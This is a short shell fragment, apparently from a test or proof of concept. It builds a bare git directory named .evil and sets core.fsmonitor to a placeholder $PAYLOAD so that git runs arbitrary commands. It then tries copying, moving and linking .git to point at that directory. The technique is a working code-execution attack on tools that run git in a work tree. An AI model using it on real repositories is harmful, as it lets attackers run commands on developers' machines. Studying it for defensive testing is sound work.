# Overwrites, replaces and links .git to point at a git directory in the work tree.
git init -q --bare .evil
set_config .evil/config core.bare false
set_config .evil/config core.fsmonitor "$PAYLOAD; false"
echo 'gitdir: ./.evil' > .git
echo 'gitdir: ./.evil' > pointer
cp -f pointer .git; mv -f pointer .git; ln -sf .evil .git; ln -f pointer .git
rm -rf .evil
